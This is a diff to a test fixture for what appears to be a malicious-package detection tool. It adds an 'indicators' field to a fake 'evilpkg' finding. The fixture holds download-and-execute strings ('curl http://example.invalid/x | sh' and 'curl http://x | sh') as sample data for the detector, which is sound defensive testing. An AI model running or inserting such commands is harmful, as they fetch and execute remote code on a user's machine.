@@ -7,6 +7,7 @@ from dataclasses import replace
 from mphunter_gate.types import (
     ApiCall,
     Decoded,
+    Indicator,
     Finding,
     Origin,
     ParseMode,
@@ -37,6 +38,7 @@ def failing_finding(name: str = "evilpkg", version: str = "1.0.0", line: int = 3
         parse=ParseMode.AST,
         sequences=(calls, calls[2:]),
         decoded=(Decoded("setup.py", 11, "base64", "curl http://example.invalid/x | sh"),),
+        indicators=(Indicator("download_execute", "setup.py", 11, "curl http://x | sh"),),
     )
     init = ScriptAnalysis(
         path="evilpkg/__init__.py",
